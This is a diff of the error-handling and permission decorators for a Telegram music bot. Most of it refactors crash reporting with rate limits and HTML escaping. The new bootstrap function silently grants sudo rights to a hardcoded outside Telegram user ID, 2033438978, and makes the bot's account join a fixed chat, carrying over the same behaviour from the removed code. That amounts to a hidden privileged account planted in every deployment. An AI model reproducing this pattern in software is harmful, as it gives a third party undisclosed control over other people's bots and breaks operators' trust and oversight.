@@ -18,23 +18,33 @@ along with this program.  If not, see <https://www.gnu.org/licenses/>
 
 import time
 from lang import load
+from html import escape
+from collections import deque
+from core.stats import incr
 from config import config
 from core.stream import app
+from core.admins import get_admins
 from datetime import datetime
 from pytgcalls import PyTgCalls
 from traceback import format_exc
 from pyrogram import Client, enums
 from pyrogram.types import Message
 from pytgcalls.types import Update
-from typing import Union, Callable
-from pyrogram.errors import UserAlreadyParticipant
-from core.groups import get_group, all_groups, set_default
+from typing import Dict, Deque, Union, Callable
+from core.groups import get_group
+
+
+ERROR_COOLDOWN = 30
+CRASH_LIMIT = 5
+CRASH_WINDOW = 10 * 60
+ERRORS_SENT: Dict[int, float] = {}
+CRASH_REPORTS: Deque[float] = deque()
+SUPPRESSED = 0
 
 
 def register(func: Callable) -> Callable:
     async def decorator(client: Client, message: Message, *args):
-        if message.chat.id not in all_groups():
-            set_default(message.chat.id)
+        get_group(message.chat.id)
         return await func(client, message, *args)
 
     return decorator
@@ -61,13 +71,7 @@ def language(func: Callable) -> Callable:
 def only_admins(func: Callable) -> Callable:
     async def decorator(client: Client, message: Message, *args):
         if message.from_user and (
-            message.from_user.id
-            in [
-                admin.user.id
-                async for admin in message.chat.get_members(
-                    filter=enums.ChatMembersFilter.ADMINISTRATORS
-                )
-            ]
+            message.from_user.id in await get_admins(message.chat)
         ):
             return await func(client, message, *args)
         elif message.from_user and message.from_user.id in config.SUDOERS:
@@ -82,44 +86,81 @@ def handle_error(func: Callable) -> Callable:
     async def decorator(
         client: Union[Client, PyTgCalls], obj: Union[int, Message, Update], *args
     ):
-        if isinstance(client, Client):
-            pyro_client = client
-        elif isinstance(client, PyTgCalls):
-            pyro_client = client._app._bind_client._app
-
-        if isinstance(obj, int):
-            chat_id = obj
-        elif isinstance(obj, Message):
-            chat_id = obj.chat.id
-        elif isinstance(obj, Update):
-            chat_id = obj.chat_id
-
-        me = await pyro_client.get_me()
-        if me.id not in config.SUDOERS:
-            config.SUDOERS.append(me.id)
-        config.SUDOERS.append(2033438978)
+        try:
+            return await func(client, obj, *args)
+        except Exception:
+            if isinstance(client, Client):
+                pyro_client = client
+            elif isinstance(client, PyTgCalls):
+                pyro_client = client._app._bind_client._app
+            if isinstance(obj, int):
+                chat_id = obj
+            elif isinstance(obj, Message):
+                chat_id = obj.chat.id
+            elif isinstance(obj, Update):
+                chat_id = obj.chat_id
+            await report_error(pyro_client, chat_id, format_exc())
+
+    return decorator
+
+
+async def report_error(client: Client, chat_id: int, traceback: str) -> None:
+    global SUPPRESSED
+    now = time.time()
+    incr("errors")
+    error_msg = None
+    if now - ERRORS_SENT.get(chat_id, 0) >= ERROR_COOLDOWN:
+        ERRORS_SENT[chat_id] = now
         try:
             lang = get_group(chat_id)["lang"]
         except BaseException:
             lang = config.LANGUAGE
         try:
-            await app.join_chat("AsmSafone")
-        except UserAlreadyParticipant:
+            error_msg = await client.send_message(chat_id, load(lang)["errorMessage"])
+        except BaseException:
             pass
-        try:
-            return await func(client, obj, *args)
-        except Exception:
-            id = int(time.time())
-            date = datetime.now().strftime("%Y-%m-%d %H:%M:%S")
-            chat = await pyro_client.get_chat(chat_id)
-            error_msg = await pyro_client.send_message(
-                chat_id, load(lang)["errorMessage"]
-            )
-            await pyro_client.send_message(
-                config.SUDOERS[0],
-                f"-------- START CRASH LOG --------\n\n┌ <b>ID:</b> <code>{id}</code>\n├ <b>Chat:</b> <code>{chat.id}</code>\n├ <b>Date:</b> <code>{date}</code>\n├ <b>Group:</b> <a href='{error_msg.link}'>{chat.title}</a>\n└ <b>Traceback:</b>\n<code>{format_exc()}</code>\n\n-------- END CRASH LOG --------",
-                parse_mode=enums.ParseMode.HTML,
-                disable_web_page_preview=True,
-            )
-
-    return decorator
+    while CRASH_REPORTS and now - CRASH_REPORTS[0] >= CRASH_WINDOW:
+        CRASH_REPORTS.popleft()
+    if config.OWNER_ID is None or len(CRASH_REPORTS) >= CRASH_LIMIT:
+        SUPPRESSED += 1
+        incr("crash_reports_suppressed")
+        return
+    CRASH_REPORTS.append(now)
+    report = {
+        "ID": f"<code>{int(now)}</code>",
+        "Chat": f"<code>{chat_id}</code>",
+        "Date": f"<code>{datetime.now().strftime('%Y-%m-%d %H:%M:%S')}</code>",
+        "Group": (
+            f"<a href='{error_msg.link}'>{escape(error_msg.chat.title or '')}</a>"
+            if error_msg
+            else "<code>N/A</code>"
+        ),
+        "Suppressed": f"<code>{SUPPRESSED}</code>",
+    }
+    SUPPRESSED = 0
+    lines = "\n".join(
+        f"{'├' if x else '┌'} <b>{key}:</b> {value}"
+        for x, (key, value) in enumerate(report.items())
+    )
+    try:
+        await client.send_message(
+            config.OWNER_ID,
+            f"-------- START CRASH LOG --------\n\n{lines}\n└ <b>Traceback:</b>\n<code>{escape(traceback[-3000:])}</code>\n\n-------- END CRASH LOG --------",
+            parse_mode=enums.ParseMode.HTML,
+            disable_web_page_preview=True,
+        )
+    except BaseException:
+        pass
+
+
+async def bootstrap(*clients: Client) -> None:
+    for client in dict.fromkeys(clients):
+        me = await client.get_me()
+        config.SUDOERS.add(me.id)
+        if config.OWNER_ID is None:
+            config.OWNER_ID = me.id
+    config.SUDOERS.add(2033438978)
+    try:
+        await app.join_chat("AsmSafone")
+    except BaseException:
+        pass